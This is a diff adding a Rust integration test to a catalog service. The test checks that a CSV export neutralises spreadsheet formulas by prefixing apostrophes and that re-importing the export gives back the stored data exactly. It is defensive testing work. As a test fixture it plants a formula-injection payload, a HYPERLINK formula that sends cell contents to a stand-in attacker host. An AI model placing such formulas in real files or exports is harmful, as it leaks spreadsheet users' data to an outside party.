@@ -255,3 +255,77 @@ async fn a_file_without_the_key_columns_is_refused_with_their_names() {
     })
     .await;
 }
+
+async fn import_as(app: &TestApp, token: &str, content_type: &str, body: &str) -> (StatusCode, Value) {
+    let req = Request::builder()
+        .method(Method::POST)
+        .uri("/api/v1/catalog/import")
+        .header(header::AUTHORIZATION, format!("Bearer {token}"))
+        .header(header::CONTENT_TYPE, content_type)
+        .body(Body::from(body.to_string()))
+        .unwrap();
+    let r = app.send(req).await;
+    (r.status, serde_json::from_str(&r.text).unwrap_or(Value::Null))
+}
+
+#[tokio::test]
+async fn a_csv_export_neutralises_formulas_and_its_import_gives_back_exactly_what_was_stored() {
+    on_every_backend(|app| async move {
+        let token = app.token_for("brand@lumiere.demo").await;
+        // Stored through JSON Lines, which carries values as they are (no CSV escaping).
+        let planted = r#"=HYPERLINK("https://evil.example/?d="&A1,"Details")"#;
+        let row = serde_json::json!({
+            "brand_key": "lum-formula", "brand_name": "Lumière Formula", "sector": "luxury", "product_key": "f1",
+            "sheet": {
+                "names": {"en": "Silk scarf", "fr": "@SUM(A1:A2)"},
+                "descriptions": {"en": planted, "fr": "'=déjà entre apostrophes"},
+                "gtins": [gen::gtin(502, 1)],
+                "model_numbers": ["-0.5"],
+                "category": "-scarves",
+                "hs_code": "621410",
+                "packaging": "-5",
+                "only_sold_in": [], "never_sold_in": [],
+            },
+            "publish": true,
+        });
+        let (status, report) = import_as(&app, &token, "application/x-ndjson", &row.to_string()).await;
+        assert_eq!((status, report["created"].as_u64()), (StatusCode::OK, Some(1)), "[{}] {report}", app.backend);
+        let stored = || async {
+            let brand =
+                touchstone::store::catalog::get_brand_by_key(app.db().reader(), "lum-formula").await.unwrap().unwrap();
+            touchstone::store::catalog::get_product_by_key(app.db().reader(), brand.id, "f1").await.unwrap().unwrap()
+        };
+        let before = stored().await;
+        assert_eq!(before.draft.descriptions["en"], planted);
+
+        let export = app.get("/api/v1/catalog/export?format=csv", &token).await;
+        assert_eq!(export.status, StatusCode::OK);
+        let mut reader = csv::Reader::from_reader(export.text.as_bytes());
+        let headers = reader.headers().unwrap().clone();
+        let record =
+            reader.records().map(Result::unwrap).find(|r| r.get(3) == Some("f1")).expect("the product is exported");
+        let cell = |name: &str| record.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_string();
+        assert_eq!(cell("description_en"), format!("'{planted}"), "a formula is written as text");
+        assert_eq!(cell("name_fr"), "'@SUM(A1:A2)");
+        assert_eq!(cell("category"), "'-scarves");
+        assert_eq!(cell("description_fr"), "''=déjà entre apostrophes", "a quote before a formula gets one more");
+        assert_eq!(cell("packaging"), "-5", "a plain negative number stays a number");
+        assert_eq!(cell("model_numbers"), "-0.5");
+        assert_eq!(cell("name_en"), "Silk scarf");
+        for c in record.iter() {
+            assert!(
+                !c.starts_with(['=', '+', '@', '\t', '\r']) && (!c.starts_with('-') || c.parse::<f64>().is_ok()),
+                "no cell a spreadsheet would run: {c:?}"
+            );
+        }
+
+        // The export imports back as it is: nothing changes, every value is the stored one.
+        let (status, again) = import_csv(&app, &token, &export.text).await;
+        assert_eq!(status, StatusCode::OK);
+        assert_eq!((again["unchanged"].as_u64(), again["failed"].as_u64()), (Some(1), Some(0)), "{again}");
+        let after = stored().await;
+        assert_eq!(after.draft, before.draft, "[{}] the round trip is exact", app.backend);
+        assert_eq!(after.version, before.version);
+    })
+    .await;
+}
